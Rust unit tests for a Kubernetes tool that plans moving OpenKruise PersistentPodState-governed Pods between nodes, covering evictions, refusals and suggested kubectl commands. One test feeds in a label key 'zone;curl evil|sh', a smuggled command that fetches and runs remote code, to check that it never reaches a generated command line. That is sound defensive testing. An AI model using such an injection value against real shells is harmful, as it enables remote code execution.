use pps_core::{MOVE_ANNOTATION, RECORD_ANNOTATION};
use serde_json::{Value, json};

use super::*;
use crate::decide::command_line::{CommandLine, Flag};
use crate::decide::way_out::WayOut;
use crate::snapshot::{Namespaces, Node, Pps, Workload, forbidden};

const HOST: &str = "kubernetes.io/hostname";
const ZONE: &str = "topology.kubernetes.io/zone";
const RACK: &str = "example.io/rack";

fn node(name: &str, zone: &str) -> Node {
    Node::read(json!({
        "metadata": {"name": name, "labels": {HOST: name, "topology.kubernetes.io/zone": zone}},
        "status": {"allocatable": {"cpu": "4", "memory": "8Gi", "pods": "110"}},
    }))
    .unwrap()
}

/// A Pod of the StatefulSet `db` with the affinity that the policy gives it for this node.
pub(super) fn pod(name: &str, node: Option<&str>, pinned_to: Option<&str>) -> Value {
    let mut pod = json!({
        "metadata": {"name": name, "namespace": "prod", "uid": format!("uid-{name}"), "resourceVersion": "5",
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "db", "uid": "s", "controller": true}]},
        "spec": {"containers": [{"name": "c"}]},
        "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]},
    });
    match node {
        Some(node) => pod["spec"]["nodeName"] = node.into(),
        None => pod["status"] = json!({"phase": "Pending"}),
    }
    if let Some(pinned_to) = pinned_to {
        pod["metadata"]["annotations"] = json!({"kruise.io/injected-persistent-pod-state": "db"});
        pod["spec"]["affinity"] = json!({"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
            "nodeSelectorTerms": [{"matchExpressions": [{"key": HOST, "operator": "In", "values": [pinned_to]}]}]}}});
    }
    pod
}

fn state(node: &str) -> Value {
    json!({"nodeName": node, "nodeTopologyLabels": {HOST: node}, "annotations": {"ip": "10.0.0.7"}})
}

fn pps(states: &Value) -> Value {
    json!({
        "apiVersion": "apps.kruise.io/v1alpha1", "kind": "PersistentPodState",
        "metadata": {"name": "db", "namespace": "prod", "uid": "uid-p", "resourceVersion": "9"},
        "spec": {
            "targetRef": {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "db"},
            "requiredPersistentTopology": {"nodeTopologyKeys": [HOST]},
            "persistentPodAnnotations": [{"key": "ip"}],
        },
        "status": {"podStates": states},
    })
}

fn snapshot(pods: &[Value], pps: &[Value]) -> Snapshot {
    let mut snapshot = Snapshot::empty(Namespaces::One("prod".into()));
    snapshot.pods = pods.iter().cloned().filter_map(Pod::read).collect();
    snapshot.pps = pps.iter().cloned().filter_map(Pps::read).collect();
    let nodes = [
        node("node-1", "a"),
        node("node-2", "a"),
        node("node-3", "b"),
    ];
    snapshot.nodes = Some(
        nodes
            .into_iter()
            .map(|node| (node.name().to_owned(), node))
            .collect(),
    );
    let set = json!({"metadata": {"name": "db", "namespace": "prod", "uid": "s"},
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "db"}}, "template": {"spec": {"containers": [{"name": "c"}]}}}});
    snapshot.workloads = Workload::read(set, "apps/v1").into_iter().collect();
    snapshot
}

fn running() -> Snapshot {
    snapshot(
        &[pod("db-0", Some("node-1"), Some("node-1"))],
        &[pps(&json!({"db-0": state("node-1")}))],
    )
}

fn anywhere() -> Request<'static> {
    Request {
        namespace: "prod",
        pod: "db-0",
        to: None,
        any: &[],
        drop_annotations: false,
    }
}

fn to(name: &str) -> Request<'static> {
    let node = node(name, if name == "node-3" { "b" } else { "a" });
    Request {
        to: Some(Box::leak(Box::new(node))),
        ..anywhere()
    }
}

fn planned(snapshot: &Snapshot, request: &Request<'_>) -> PodMove {
    decide(snapshot, request)
        .unwrap()
        .expect("something is to be done")
}

fn refused(snapshot: &Snapshot, request: &Request<'_>) -> Refusal {
    decide(snapshot, request).unwrap_err()
}

/// How the command of a user ends who has named a context: the exit code, and what it says.
fn said(refusal: Refusal) -> (u8, String) {
    let flags = vec![Flag {
        name: "context",
        value: "blue".to_owned(),
    }];
    let commands = CommandLine {
        own_namespace: Some("prod".into()),
        flags,
    };
    let failure = crate::render::move_pod::refusal(refusal, &commands);
    (failure.exit_code(), failure.to_string())
}

fn after(one: &PodMove) -> Value {
    json!(one.new_state.of(one.before.as_ref()))
}

/// The nodes that could take the Pod.
fn takers(one: &PodMove) -> Vec<String> {
    let landing = crate::decide::placement::Landing::of(one.forecast.as_ref().unwrap());
    let mut all = [landing.favourites(), landing.others()].concat();
    all.sort();
    all
}

/// With a mark of a move.
fn marked(mut pod: Value) -> Value {
    pod["metadata"]["annotations"][RECORD_ANNOTATION] = "false".into();
    pod["metadata"]["annotations"][MOVE_ANNOTATION] = "recorded".into();
    pod
}

fn with_workload(snapshot: &mut Snapshot, change: &Value) {
    let mut set = snapshot.workloads[0].object().clone();
    json_patch::merge(&mut set, change);
    snapshot.workloads = Workload::read(set, "apps/v1").into_iter().collect();
}

fn with_node(snapshot: &mut Snapshot, node: &str, change: &Value) {
    let mut object = snapshot.node(node).unwrap().object().clone();
    json_patch::merge(&mut object, change);
    snapshot
        .nodes
        .as_mut()
        .unwrap()
        .insert(node.into(), Node::read(object).unwrap());
}

fn cordon(snapshot: &mut Snapshot, nodes: &[&str]) {
    for node in nodes {
        with_node(snapshot, node, &json!({"spec": {"unschedulable": true}}));
    }
}

#[test]
fn a_running_pod_goes_to_a_node_with_its_annotations() {
    let mut prefers = pps(&json!({"db-0": state("node-1")}));
    prefers["spec"]
        .as_object_mut()
        .unwrap()
        .remove("requiredPersistentTopology");
    prefers["spec"]["preferredPersistentTopology"] =
        json!([{"weight": 100, "preference": {"nodeTopologyKeys": [HOST]}}]);
    let preferring = snapshot(&[pod("db-0", Some("node-1"), None)], &[prefers]);
    for world in [running(), preferring] {
        let one = planned(&world, &to("node-3"));
        assert_eq!(after(&one), state("node-3"));
        assert_eq!(one.removal, Removal::Evict);
        assert_eq!(one.forecast.as_ref().unwrap().may_land_on, ["node-3"]);
        assert_eq!(one.obstacle, None);
    }
    let without = planned(
        &running(),
        &Request {
            drop_annotations: true,
            ..to("node-3")
        },
    );
    assert_eq!(
        after(&without),
        json!({"nodeName": "node-3", "nodeTopologyLabels": {HOST: "node-3"}})
    );
    let gone = snapshot(
        &[pod("db-0", Some("node-9"), None)],
        &[pps(&json!({"db-0": state("node-9")}))],
    );
    let gone = planned(&gone, &anywhere());
    assert_eq!((gone.is_stranded, gone.removal), (true, Removal::Evict));
}

#[test]
fn a_pod_that_goes_anywhere_keeps_annotations_and_an_entry_while_it_is_bound() {
    let bound = planned(&running(), &anywhere());
    assert_eq!(after(&bound), json!({"annotations": {"ip": "10.0.0.7"}}));
    assert_eq!(takers(&bound), ["node-1", "node-2", "node-3"]);
    let dropping = Request {
        drop_annotations: true,
        ..anywhere()
    };
    let emptied = planned(&running(), &dropping);
    assert_eq!(
        after(&emptied),
        json!({}),
        "the sidecar checks before it fills an empty entry"
    );
    let pending = snapshot(
        &[pod("db-0", None, Some("node-9"))],
        &[pps(&json!({"db-0": state("node-9")}))],
    );
    let pending = planned(&pending, &dropping);
    assert_eq!(
        (after(&pending), pending.removal),
        (Value::Null, Removal::Delete)
    );
}

#[test]
fn a_pod_that_was_created_with_the_new_state_is_not_deleted_again() {
    let with_annotation = |pinned_to| {
        let annotations =
            json!({"kruise.io/injected-persistent-pod-state": "db", "ip": "10.0.0.7"});
        let mut pod = pod("db-0", None, pinned_to);
        pod["metadata"]["annotations"] = annotations;
        pod
    };
    for (states, pod, request) in [
        (
            json!({"db-0": {"annotations": {"ip": "10.0.0.7"}}}),
            with_annotation(None),
            anywhere(),
        ),
        (json!({}), pod("db-0", None, None), anywhere()),
        (
            json!({"db-0": state("node-3")}),
            with_annotation(Some("node-3")),
            to("node-3"),
        ),
    ] {
        let one = planned(&snapshot(&[pod], &[pps(&states)]), &request);
        assert_eq!(
            (one.changes_state(), one.removal),
            (false, Removal::Unneeded),
            "{states}"
        );
    }
    // It keeps an annotation that is dropped.
    let waiting = with_annotation(None);
    let waiting = snapshot(
        &[waiting],
        &[pps(&json!({"db-0": {"annotations": {"ip": "10.0.0.7"}}}))],
    );
    assert_eq!(planned(&waiting, &anywhere()).removal, Removal::Unneeded);
    let dropping = Request {
        drop_annotations: true,
        ..anywhere()
    };
    assert_eq!(planned(&waiting, &dropping).removal, Removal::Delete);
}

#[test]
fn a_pending_pod_of_another_template_is_created_again() {
    let of_revisions = |own: &str, partition: u64, current: Option<&str>| {
        let mut waiting = pod("db-0", None, None);
        waiting["metadata"]["labels"] = json!({"controller-revision-hash": own});
        let mut world = snapshot(&[waiting], &[pps(&json!({}))]);
        let strategy = json!({"type": "RollingUpdate", "rollingUpdate": {"partition": partition}});
        let status = json!({"updateRevision": "db-new", "currentRevision": current});
        let change = json!({"status": status, "spec": {"updateStrategy": strategy}});
        with_workload(&mut world, &change);
        let observed = planned(&world, &anywhere()).removal;
        // What the status says of a template that the controller has not seen is out of date.
        let unobserved =
            json!({"metadata": {"generation": 3}, "status": {"observedGeneration": 2}});
        with_workload(&mut world, &unobserved);
        assert_eq!(planned(&world, &anywhere()).removal, Removal::Unneeded);
        observed
    };
    let of_revision = |own, partition| of_revisions(own, partition, None);
    let held_back = |own| of_revisions(own, 1, Some("db-old"));
    assert_eq!(
        (held_back("db-old"), held_back("db-new")),
        (Removal::Unneeded, Removal::Delete)
    );
    assert_eq!(of_revision("db-new", 0), Removal::Unneeded);
    assert_eq!(of_revision("db-old", 0), Removal::Delete);
    assert_eq!(
        of_revision("db-old", 1),
        Removal::Unneeded,
        "it would be made from the old template again"
    );
}

#[test]
fn an_interrupted_move_goes_on_where_it_was() {
    // Marked and recorded again, but not evicted yet.
    let own = marked(pod("db-0", Some("node-1"), Some("node-1")));
    let begun = snapshot(
        std::slice::from_ref(&own),
        &[pps(&json!({"db-0": state("node-3")}))],
    );
    let begun = planned(&begun, &to("node-3"));
    assert_eq!(
        (begun.changes_state(), begun.removal),
        (false, Removal::Evict)
    );
    // Evicted, and not gone yet.
    let mut ending = own;
    ending["metadata"]["deletionTimestamp"] = "2026-01-01T00:00:00Z".into();
    let ending = snapshot(&[ending], &[pps(&json!({"db-0": state("node-3")}))]);
    assert_eq!(planned(&ending, &to("node-3")).removal, Removal::Unneeded);
    // Gone, and not created again yet.
    let gone = planned(
        &snapshot(&[], &[pps(&json!({"db-0": state("node-1")}))]),
        &to("node-3"),
    );
    assert_eq!(
        (gone.present.as_ref(), after(&gone)),
        (None, state("node-3"))
    );
    // There.
    let there = [pod("db-0", Some("node-3"), Some("node-3"))];
    let done = snapshot(&there, &[pps(&json!({"db-0": state("node-3")}))]);
    assert!(decide(&done, &to("node-3")).unwrap().is_none());
}

#[test]
fn an_unfinished_move_is_called_off_by_a_move_to_where_the_pod_is() {
    let own = marked(pod("db-0", Some("node-1"), Some("node-1")));
    for recorded in ["node-1", "node-3"] {
        let mut world = snapshot(
            std::slice::from_ref(&own),
            &[pps(&json!({"db-0": state(recorded)}))],
        );
        let off = planned(&world, &to("node-1"));
        assert_eq!(
            (off.removal, after(&off), off.obstacle),
            (Removal::Stay, state("node-1"), None)
        );
        // A user's own exemption is not the move's, and stays.
        let mut exempt = own.clone();
        exempt["metadata"]["annotations"]
            .as_object_mut()
            .unwrap()
            .remove(MOVE_ANNOTATION);
        world.pods = Pod::read(exempt).into_iter().collect();
        assert_eq!(
            decide(&world, &to("node-1")).unwrap().is_none(),
            recorded == "node-1"
        );
    }
}

#[test]
fn a_pod_gets_a_home_where_it_is_and_no_move_is_called_off() {
    let mut object = pps(&json!({"db-0": state("node-3")}));
    object["spec"]["recordingPolicy"] = "IfNotPresent".into();
    let away = snapshot(&[pod("db-0", Some("node-1"), None)], &[object]);
    let stays = planned(&away, &to("node-1"));
    assert_eq!(
        (stays.removal, after(&stays)),
        (Removal::Stay, state("node-1"))
    );
    let plan = crate::render::move_pod::plan(&stays, crate::render::Style::PLAIN);
    assert!(
        plan.contains("the Pod stays, and is recorded there"),
        "{plan}"
    );
    let goes = planned(&away, &to("node-3"));
    assert_eq!(
        (goes.removal, goes.changes_state()),
        (Removal::Evict, false),
        "it goes home"
    );
    let freed = planned(&away, &anywhere());
    assert_eq!(
        freed.after().node_name,
        "",
        "so that its next place is recorded"
    );
}

#[test]
fn no_pod_is_moved_in_a_namespace_that_is_not_enabled() {
    let mut object = pps(&json!({"db-0": state("node-1")}));
    object["status"]["conditions"] = json!([{"type": "Recording", "status": "False", "reason": "NamespaceNotEnabled", "message": "label it"}]);
    let world = snapshot(&[pod("db-0", Some("node-1"), None)], &[object]);
    let refusal = refused(&world, &anywhere());
    assert_eq!(
        refusal,
        Refusal::NotEnabled {
            namespace: "prod".into()
        }
    );
    let command = "kubectl label namespace prod persistent-pod-state/injection=enabled \
                   --overwrite --context blue";
    assert!(said(refusal).1.ends_with(command));
}

#[test]
fn a_move_covers_no_more_than_what_was_shown() {
    let states = json!({"db-0": state("node-9")});
    let of =
        |pods: &[Value], request: &Request<'_>| planned(&snapshot(pods, &[pps(&states)]), request);
    let bound = || pod("db-0", Some("node-1"), None);
    let mut again = bound();
    again["metadata"]["uid"] = "other".into();
    let evicted = of(&[bound()], &anywhere());
    assert!(evicted.covers(&of(&[bound()], &anywhere())));
    assert!(
        !evicted.covers(&of(&[again], &anywhere())),
        "another Pod would be evicted"
    );
    assert!(
        !evicted.covers(&of(&[bound()], &to("node-3"))),
        "another state would be recorded"
    );
    assert!(evicted.covers(&of(&[], &anywhere())), "less is to be done");
    let pending = of(&[pod("db-0", None, Some("node-9"))], &anywhere());
    assert!(!pending.covers(&evicted), "it has got a node");
    let absent = of(&[], &anywhere());
    assert!(absent.covers(&pending) && !absent.covers(&evicted));
    // Its node is gone, and comes back.
    let stranded = of(&[pod("db-0", Some("node-9"), None)], &anywhere());
    let mut back = snapshot(&[pod("db-0", Some("node-9"), None)], &[pps(&states)]);
    back.nodes
        .as_mut()
        .unwrap()
        .insert("node-9".into(), node("node-9", "a"));
    assert!(!stranded.covers(&planned(&back, &anywhere())));
}

#[test]
fn pods_that_do_not_run_are_moved_first_and_by_ordinal() {
    let ready = |name: &str| pod(name, Some("node-1"), None);
    let pods = [
        ready("db-0"),
        pod("db-1", None, Some("node-9")),
        ready("db-2"),
    ];
    let mut world = snapshot(&pods, &[pps(&json!({"db-3": state("node-9")}))]);
    with_workload(&mut world, &json!({"spec": {"replicas": 4}}));
    let mut moves: Vec<PodMove> = ["db-2", "db-3", "db-0", "db-1"]
        .map(|pod| planned(&world, &Request { pod, ..anywhere() }))
        .into();
    order(&mut moves);
    let names: Vec<&str> = moves.iter().map(|one| one.pod.as_str()).collect();
    assert_eq!(names, ["db-1", "db-3", "db-0", "db-2"]);
}

#[test]
fn the_nodes_that_cannot_take_a_pod_are_named() {
    let mut world = running();
    cordon(&mut world, &["node-1", "node-2", "node-3"]);
    let Some(Obstacle::NoNode {
        excluded,
        way_out: None,
    }) = planned(&world, &anywhere()).obstacle
    else {
        panic!("no node can take it")
    };
    let nodes: Vec<&str> = excluded
        .iter()
        .map(|verdict| verdict.node.as_str())
        .collect();
    assert_eq!(nodes, ["node-1", "node-2", "node-3"]);
    assert!(matches!(
        planned(&world, &to("node-2")).obstacle,
        Some(Obstacle::Excluded(_))
    ));
}

#[test]
fn the_next_pod_is_made_from_the_present_template() {
    let has_obstacle = |strategy: &Value| {
        let mut world = running();
        let template = json!({"spec": {"nodeSelector": {"disk": "ssd"}}});
        with_workload(
            &mut world,
            &json!({"spec": {"template": template, "updateStrategy": strategy}}),
        );
        planned(&world, &anywhere()).obstacle.is_some()
    };
    assert!(has_obstacle(&json!({})));
    // Unless the update strategy keeps the former one for it.
    assert!(!has_obstacle(&json!({"rollingUpdate": {"partition": 1}})));
    assert!(has_obstacle(&json!({"rollingUpdate": {"partition": 0}})));
    assert!(
        has_obstacle(&json!({"rollingUpdate": {"partition": 1}, "type": "OnDelete"})),
        "it has no partition"
    );
}

#[test]
fn a_destination_that_is_not_required_is_no_promise() {
    let mut object = pps(&json!({"db-0": state("node-1")}));
    object["spec"]["requiredPersistentTopology"] = json!({"nodeTopologyKeys": [ZONE]});
    let one = planned(
        &snapshot(&[pod("db-0", Some("node-3"), None)], &[object]),
        &to("node-1"),
    );
    assert_eq!(
        (one.obstacle, one.forecast.unwrap().may_land_on.len()),
        (None, 2),
        "no promise"
    );
}

#[test]
fn a_destination_that_the_scheduler_would_not_choose_is_an_obstacle() {
    let mut object = pps(&json!({"db-0": state("node-1")}));
    object["spec"]["requiredPersistentTopology"] = json!({"nodeTopologyKeys": [ZONE]});
    let mut world = snapshot(&[pod("db-0", Some("node-3"), None)], &[object]);
    let taints = json!([{"key": "busy", "effect": "PreferNoSchedule"}]);
    with_node(&mut world, "node-1", &json!({"spec": {"taints": taints}}));
    let one = planned(&world, &to("node-1"));
    assert_eq!(
        (takers(&one)[0].as_str(), one.obstacle),
        ("node-1", Some(Obstacle::NotChosen))
    );
}

#[test]
fn a_move_that_is_not_possible_says_why() {
    assert!(matches!(
        refused(
            &running(),
            &Request {
                pod: "web-0",
                ..anywhere()
            }
        ),
        Refusal::NoPod { .. }
    ));
    let says = "no PersistentPodState names StatefulSet db: nothing pins Pod db-0, and the \
                scheduler chooses whenever it is created again";
    for pods in [vec![], vec![pod("db-0", None, None)]] {
        assert_eq!(
            said(refused(&snapshot(&pods, &[]), &anywhere())),
            (1, says.to_owned())
        );
    }
    let bare = refused(
        &snapshot(&[pod("db-0", None, Some("node-1"))], &[]),
        &anywhere(),
    );
    assert!(matches!(bare, Refusal::NotGoverned { waits: true, .. }));
    let (code, says) = said(bare);
    assert!(
        says.contains(": kubectl delete pod db-0 --context blue has it created again"),
        "{says}"
    );
    assert_eq!(code, 1);
    let mut free = pod("db-0", Some("node-1"), None);
    free["metadata"]["ownerReferences"] = json!([]);
    assert_eq!(
        refused(&snapshot(&[free], &[]), &anywhere()),
        Refusal::NoController { pod: "db-0".into() }
    );
    let mut damaged = pps(&json!({}));
    damaged["status"] = json!({"packed": {"version": 1, "buckets": {"ordinals-0": "7 db-* n\n"}}});
    let damaged = refused(
        &snapshot(&[pod("db-0", None, None)], &[damaged]),
        &anywhere(),
    );
    assert!(matches!(damaged, Refusal::UnreadablePps { .. }));
    let unwanted = |pod: &str, why: &str| {
        (
            1,
            format!(
                "StatefulSet db ({why}) does not want Pod {pod}, and would not create it again"
            ),
        )
    };
    for pods in [vec![], vec![pod("db-7", Some("node-1"), None)]] {
        let world = snapshot(&pods, &[pps(&json!({"db-7": state("node-1")}))]);
        let refusal = refused(
            &world,
            &Request {
                pod: "db-7",
                ..anywhere()
            },
        );
        assert_eq!(said(refusal), unwanted("db-7", "replicas: 1"));
    }
    // A workload with a finalizer stays for a while, and so do its Pods.
    let mut deleted = running();
    with_workload(
        &mut deleted,
        &json!({"metadata": {"deletionTimestamp": "2026-11-23T00:00:00Z"}}),
    );
    assert_eq!(
        said(refused(&deleted, &anywhere())),
        unwanted("db-0", "being deleted")
    );
    deleted.pods.clear();
    assert_eq!(
        said(refused(&deleted, &anywhere())),
        unwanted("db-0", "being deleted")
    );
    assert_eq!(
        select(&deleted, "node-1").unwrap().pods,
        [],
        "it comes back nowhere"
    );
    // Nothing is moved that Kubernetes deletes with its node.
    let mut stranded = running();
    stranded.pods = vec![Pod::read(pod("db-7", Some("node-9"), None)).unwrap()];
    assert_eq!(select(&stranded, "node-9").unwrap(), Selected::default());
}

#[test]
fn nothing_is_decided_on_lists_that_could_not_be_read() {
    let mut world = running();
    world.nodes = None;
    world.unread = vec![forbidden("list nodes"), forbidden("list pods")];
    let blind = planned(&world, &anywhere());
    assert_eq!(blind.forecast, None);
    let notes =
        |world: &Snapshot| crate::render::move_pod::notes(&blind, world.unread(Resource::Nodes));
    assert_eq!(
        notes(&world),
        ["you have no permission to list nodes, so where the Pod may land is not known"]
    );
    world.unread[0].why = Some("500".into());
    assert_eq!(
        notes(&world),
        ["cannot read nodes: 500, so where the Pod may land is not known"]
    );
    let unread = vec![forbidden(
        "list persistentpodstates.apps.kruise.io in namespace prod",
    )];
    world.unread = unread.clone();
    assert!(matches!(refused(&world, &anywhere()), Refusal::Unread(_)));
    let blind = Snapshot {
        pps: Vec::new(),
        unread,
        ..running()
    };
    assert!(matches!(
        require_keys(&blind, &["zone".to_owned()]),
        Err(Refusal::Unread(_))
    ));
    world.pods.clear();
    world.unread = vec![forbidden("list pods in namespace prod")];
    assert!(matches!(refused(&world, &anywhere()), Refusal::Unread(_)));
}

/// The Pod runs on node-1 in zone a, and requires these labels.
fn requiring(keys: &[&str]) -> Snapshot {
    let labels = json!({HOST: "node-1", ZONE: "a", RACK: "r1"});
    let labels: Value = keys
        .iter()
        .filter_map(|key| Some(((*key).to_owned(), labels.get(key)?.clone())))
        .collect();
    let mut object = pps(&json!({"db-0": {"nodeName": "node-1", "nodeTopologyLabels": labels}}));
    object["spec"]["requiredPersistentTopology"] = json!({"nodeTopologyKeys": keys});
    snapshot(&[pod("db-0", Some("node-1"), Some("node-1"))], &[object])
}

fn way_out(snapshot: &Snapshot) -> Option<WayOut> {
    match planned(snapshot, &anywhere()).obstacle {
        Some(Obstacle::NoNode { way_out, .. }) => way_out,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_pod_that_goes_anywhere_stays_in_its_zone() {
    for keys in [&[ZONE, HOST][..], &[ZONE]] {
        let one = planned(&requiring(keys), &anywhere());
        assert_eq!(
            after(&one),
            json!({"nodeTopologyLabels": {ZONE: "a"}}),
            "{keys:?}"
        );
        assert_eq!(
            (takers(&one), one.obstacle),
            (vec!["node-1".into(), "node-2".into()], None),
            "{keys:?}"
        );
    }
}

#[test]
fn a_required_value_is_given_up_only_by_name() {
    let mut full = requiring(&[ZONE, HOST]);
    cordon(&mut full, &["node-1", "node-2"]);
    let expected = Some((vec!["zone=a".to_owned()], " --any zone".to_owned()));
    let found = |world: &Snapshot| way_out(world).map(|way_out| (way_out.values, way_out.flags));
    assert_eq!(found(&full), expected);
    assert_eq!(planned(&full, &anywhere()).gives_up(), []);
    for word in ["zone", ZONE] {
        let words = [word.to_owned()];
        let one = planned(
            &full,
            &Request {
                any: &words,
                ..anywhere()
            },
        );
        assert_eq!((after(&one), &one.obstacle), (json!({}), &None), "{word}");
        assert_eq!(
            (takers(&one), one.gives_up()),
            (vec!["node-3".into()], vec![(ZONE, "a")])
        );
    }
    // A user who names a node of another zone has given the zone up.
    assert_eq!(planned(&full, &to("node-3")).gives_up(), [(ZONE, "a")]);
    assert_eq!(planned(&full, &to("node-2")).gives_up(), []);
    // The same of a Pod that its controller is about to create.
    full.pods.clear();
    assert_eq!(found(&full), expected);
}

#[test]
fn as_few_values_as_possible_are_to_be_given_up() {
    let mut world = requiring(&[ZONE, RACK, HOST]);
    with_node(
        &mut world,
        "node-2",
        &json!({"metadata": {"labels": {RACK: "r2"}}}),
    );
    with_node(
        &mut world,
        "node-3",
        &json!({"metadata": {"labels": {RACK: "r3"}}}),
    );
    cordon(&mut world, &["node-1"]);
    assert_eq!(way_out(&world).unwrap().flags, " --any rack");
    cordon(&mut world, &["node-2"]);
    assert_eq!(way_out(&world).unwrap().flags, " --any rack --any zone");
    cordon(&mut world, &["node-3"]);
    assert_eq!(way_out(&world), None, "it would not help");
}

#[test]
fn a_key_that_a_shell_would_obey_is_in_no_command() {
    let hostile = "zone;curl evil|sh";
    let mut world = requiring(&[ZONE, HOST]);
    let mut object = world.pps[0].object().clone();
    object["spec"]["requiredPersistentTopology"]["nodeTopologyKeys"] = json!([ZONE, hostile]);
    object["status"]["podStates"]["db-0"]["nodeTopologyLabels"][hostile] = json!("a");
    world.pps = Pps::read(object).into_iter().collect();
    cordon(&mut world, &["node-1", "node-2"]);
    let one = planned(&world, &anywhere());
    let Some(Obstacle::NoNode {
        way_out: Some(found),
        ..
    }) = &one.obstacle
    else {
        panic!("{one:?}")
    };
    assert_eq!(found.flags, " --any zone");
}

#[test]
fn a_word_that_names_no_label_or_several_is_refused() {
    let words = ["zone".to_owned()];
    let other = "failure-domain.beta.kubernetes.io/zone";
    let mut two = requiring(&[ZONE, other, HOST]);
    let mut object = two.pps[0].object().clone();
    object["status"]["podStates"]["db-0"]["nodeTopologyLabels"][other] = json!("a");
    two.pps = Pps::read(object).into_iter().collect();
    let given_up = |words: &[String]| {
        let one = planned(
            &two,
            &Request {
                any: words,
                ..anywhere()
            },
        );
        one.gives_up()
            .iter()
            .map(|(key, _)| (*key).to_owned())
            .collect::<Vec<_>>()
    };
    let several = Refusal::AmbiguousKey {
        word: "zone".into(),
        keys: vec![other.into(), ZONE.into()],
    };
    assert_eq!(
        refused(
            &two,
            &Request {
                any: &words,
                ..anywhere()
            }
        ),
        several
    );
    assert_eq!(given_up(&[ZONE.to_owned()]), [ZONE]);
    let mut world = requiring(&[HOST]);
    let unknown = Refusal::UnknownKey {
        word: "zone".into(),
        keys: vec![HOST.into()],
    };
    assert_eq!(require_keys(&world, &words), Err(unknown));
    assert_eq!(
        (require_keys(&two, &words), require_keys(&world, &[])),
        (Ok(()), Ok(()))
    );
    // A PersistentPodState that governs nothing names none.
    let mut other = two.pps[0].object().clone();
    other["metadata"]["name"] = json!("later");
    world.pps.extend(Pps::read(other));
    assert!(require_keys(&world, &words).is_err());
}

#[test]
fn a_new_pod_is_told_from_the_former_one() {
    let read = |pod: Value| Pod::read(pod).unwrap();
    let former = pod("db-0", Some("node-1"), None);
    let mut new = former.clone();
    new["metadata"]["uid"] = "other".into();
    let mut ending = new.clone();
    ending["metadata"]["deletionTimestamp"] = "2026-11-23T00:00:00Z".into();
    let mut failed = new.clone();
    failed["status"]["phase"] = "Failed".into();
    let one = planned(&running(), &anywhere());
    let is_successor = [new, former, ending, failed].map(|pod| one.is_successor(&read(pod)));
    assert_eq!(
        is_successor,
        [true, false, false, false],
        "a finalizer may keep one that has ended"
    );
    // A Pod that waits with the new state is the new Pod itself, also when it has a node.
    let one = planned(
        &snapshot(&[pod("db-0", None, None)], &[pps(&json!({}))]),
        &anywhere(),
    );
    assert!(one.is_successor(&read(pod("db-0", Some("node-2"), None))));
}

#[test]
fn a_removed_mark_leaves_a_users_exemption() {
    for exemption in [None, Some("false"), Some("true")] {
        let mut own = pod("db-0", Some("node-1"), Some("node-1"));
        if let Some(value) = exemption {
            own["metadata"]["annotations"][RECORD_ANNOTATION] = value.into();
        }
        let before = Pod::read(own.clone()).unwrap();
        assert!(!before.is_marked() && mark(&before, false).is_none());
        json_patch::merge(
            &mut own["metadata"]["annotations"],
            &mark(&before, true).unwrap(),
        );
        let marked = Pod::read(own.clone()).unwrap();
        assert!(
            marked.is_marked() && mark(&marked, true).is_none(),
            "another command moves it as well"
        );
        json_patch::merge(
            &mut own["metadata"]["annotations"],
            &mark(&marked, false).unwrap(),
        );
        let after = Pod::read(own).unwrap();
        assert_eq!(
            (after.is_marked(), after.is_exempt()),
            (false, before.is_exempt()),
            "{exemption:?}"
        );
    }
}

#[test]
fn a_node_stands_for_its_pods_and_those_that_cannot_come_back() {
    let names = |pods: &[NamespacedName]| -> Vec<String> {
        pods.iter().map(|pod| pod.name.to_string()).collect()
    };
    let mut bare = pod("web-0", Some("node-1"), None);
    bare["metadata"]["ownerReferences"][0]["name"] = "web".into();
    // Its state was injected before its PersistentPodState was deleted.
    let mut waiting = pod("web-1", None, Some("node-1"));
    waiting["metadata"]["ownerReferences"][0]["name"] = "web".into();
    let pods = [
        pod("db-0", Some("node-1"), None),
        pod("db-1", None, Some("node-1")),
        bare,
        waiting,
    ];
    let states = json!({"db-1": state("node-1"), "db-2": state("node-1"), "db-9": state("node-1")});
    let mut world = snapshot(&pods, &[pps(&states)]);
    with_workload(&mut world, &json!({"spec": {"replicas": 3}}));
    let mut web = world.workloads[0].object().clone();
    web["metadata"]["name"] = "web".into();
    world.workloads.extend(Workload::read(web, "apps/v1"));
    let open = select(&world, "node-1").unwrap();
    assert_eq!(names(&open.pods), ["db-0", "web-1"]);
    assert_eq!(
        (names(&open.returning), names(&open.not_governed)),
        (vec!["db-1".into(), "db-2".into()], vec!["web-0".into()])
    );
    let refusal = refused(
        &world,
        &Request {
            pod: "web-1",
            ..anywhere()
        },
    );
    assert!(
        matches!(refusal, Refusal::NotGoverned { waits: true, .. }),
        "{refusal:?}"
    );
    cordon(&mut world, &["node-1"]);
    assert_eq!(
        names(&select(&world, "node-1").unwrap().pods),
        ["db-0", "db-1", "web-1", "db-2"]
    );
    // Which Pods are wanted is not known.
    world.workloads.clear();
    world.unread = vec![forbidden("list statefulsets.apps in namespace prod")];
    assert_eq!(
        names(&select(&world, "node-1").unwrap().pods),
        ["db-0", "db-1", "db-2", "db-9"]
    );
    let refusal = refused(
        &world,
        &Request {
            pod: "db-2",
            ..anywhere()
        },
    );
    assert!(matches!(refusal, Refusal::Unread(_)), "{refusal:?}");
}

#[test]
fn a_pod_that_nothing_would_create_again_is_not_evicted() {
    let mut world = running();
    world.workloads.clear();
    for pods in [world.pods.clone(), Vec::new()] {
        world.pods = pods;
        assert!(matches!(
            refused(&world, &anywhere()),
            Refusal::NoWorkload { .. }
        ));
    }
    let unread = vec![forbidden("list statefulsets.apps in namespace prod")];
    let blind = Snapshot {
        workloads: Vec::new(),
        unread,
        ..running()
    };
    assert_eq!(
        planned(&blind, &anywhere()).removal,
        Removal::Evict,
        "whether it is gone is not known"
    );
}
